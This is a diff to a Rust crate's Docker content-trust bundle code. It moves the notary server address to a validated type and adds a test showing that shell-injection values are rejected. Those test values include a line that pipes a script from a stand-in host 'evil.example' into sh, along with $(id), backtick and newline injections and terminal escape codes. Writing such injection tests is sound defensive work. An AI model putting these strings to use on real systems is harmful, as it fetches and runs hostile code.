@@ -8,7 +8,7 @@ use base64::engine::general_purpose::STANDARD;
 use serde::{Deserialize, Serialize};
 use serde_json::json;
 
-use crate::{DefinitionName, ImageReference};
+use crate::{DefinitionName, ImageReference, NotaryServer};
 
 /// The value of [`TrustBundle::schema`] that this crate reads and writes.
 pub const TRUST_SCHEMA: &str = "sbs-trust-1";
@@ -81,8 +81,8 @@ pub struct NotaryRoot {
     pub root_certificate: String,
     /// The id of the root key, as `docker trust inspect` shows it: lower-case hex.
     pub root_key_id: String,
-    /// The address of the notary server.
-    pub server: String,
+    /// The notary server: its address stands in commands for a shell.
+    pub server: NotaryServer,
 }
 
 /// What a signing key of an image definition is for.
@@ -271,7 +271,7 @@ mod tests {
                 gun: "registry.example/ns/app".to_owned(),
                 root_certificate: "certificate\n".to_owned(),
                 root_key_id: "11".repeat(32),
-                server: "https://notary.example".to_owned(),
+                server: NotaryServer::parse("notary.example").unwrap(),
             }),
             openpgp_keys: vec![OpenPgpPublicKey {
                 armored: "armored\n".to_owned(),
@@ -294,6 +294,42 @@ mod tests {
         assert_eq!(crate::parse_json::<TrustBundle>(text.as_bytes()).unwrap(), bundle());
         let unknown = text.replacen('{', r#"{"more":1,"#, 1);
         crate::parse_json::<TrustBundle>(unknown.as_bytes()).unwrap_err();
+    }
+
+    #[test]
+    fn c2_what_a_shell_would_read_otherwise_is_in_no_bundle() {
+        let good = serde_json::to_value(bundle()).unwrap();
+        let server = "https://notary.example:4443";
+        for (pointer, values) in [
+            (
+                "/notary/server",
+                &[
+                    "https://x; curl https://evil.example | sh #",
+                    "https://x$(id)",
+                    "https://x`id`",
+                    "https://x'",
+                    "https://x\"",
+                    "https://x\u{1b}]0;title\u{7}",
+                    "https://x\nid",
+                    "https://x y",
+                    "http://x",
+                    "",
+                ][..],
+            ),
+            ("/repository", &["r.example/a;id", "r.example/a\u{1b}[2J", "r.example/a'b"]),
+            ("/definition", &["a;id", "a b", "\u{1b}[2J"]),
+        ] {
+            for value in values {
+                let mut bad = good.clone();
+                *bad.pointer_mut(pointer).unwrap() = (*value).into();
+                crate::parse_json::<TrustBundle>(bad.to_string().as_bytes()).unwrap_err();
+            }
+        }
+        let mut other = good;
+        other["notary"]["server"] = server.into();
+        let other: TrustBundle = serde_json::from_value(other).unwrap();
+        let (_, command) = other.commands().pop().unwrap();
+        assert!(command.contains(&format!("SERVER={server} docker")), "{command}");
     }
 
     #[test]
